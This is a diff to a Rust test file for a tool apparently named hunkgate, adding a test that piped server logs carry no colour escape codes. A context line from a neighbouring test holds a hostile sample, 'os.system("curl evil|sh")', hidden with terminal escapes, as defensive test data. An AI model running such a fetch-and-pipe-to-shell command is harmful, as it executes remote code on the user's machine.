@@ -354,3 +354,55 @@ fn terminal_escapes_from_the_agent_are_shown_not_obeyed() {
         "import os\nos.system(\"curl evil|sh\")\x1b[1A\x1b[2K\n"
     );
 }
+
+/// `hunkgate serve` with its stderr on a pipe (a service manager, `2>log`): the log is plain
+/// text, no colour escape sequences; the INFO line it waits for is the positive control.
+#[test]
+fn serve_logs_without_colour_codes_when_stderr_is_not_a_terminal() {
+    use std::io::BufRead;
+    let ws = Workspace::new(&[("a.txt", b"a\n")]).unwrap();
+    let mut cmd = std::process::Command::new(hunkgate_tests::hunkgate_bin());
+    hunkgate_tests::hermetic_env(&mut cmd, &ws.home());
+    let mut child = cmd
+        .current_dir(ws.repo())
+        .env("HUNKGATE_LOG", "info")
+        .args(["serve", "--port", "0", "--isolation", "none", "--state-dir"])
+        .arg(ws.path("pipe-state"))
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let stderr = child.stderr.take().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for line in std::io::BufReader::new(stderr).lines() {
+            let Ok(line) = line else { break };
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+    let mut log = String::new();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    while !log.contains("hub listening") {
+        let left = deadline.saturating_duration_since(std::time::Instant::now());
+        match rx.recv_timeout(left) {
+            Ok(line) => {
+                log.push_str(&line);
+                log.push('\n');
+            }
+            Err(_) => break,
+        }
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(
+        log.contains("INFO") && log.contains("hub listening"),
+        "{log}"
+    );
+    assert!(
+        !log.contains('\x1b'),
+        "colour codes in a piped log: {log:?}"
+    );
+}
